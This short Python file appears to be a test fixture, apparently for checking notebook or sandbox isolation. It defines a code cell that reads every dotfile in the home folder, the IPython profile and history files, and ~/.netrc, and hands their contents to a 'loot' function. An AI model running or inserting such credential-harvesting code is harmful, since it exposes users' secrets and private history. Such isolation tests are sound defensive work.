"""Reads IPython's history and other files of the home folder; success: prints the marker."""

CELLS = {
    "demo": """
import glob, os
names = glob.glob("@HOME@/.*") + glob.glob("@HOME@/.ipython/profile_default/*")
for name in names + [os.path.expanduser("~/.netrc")]:
    try:
        loot(open(name, "rb").read().decode("latin-1"))
    except OSError:
        pass
"""
}
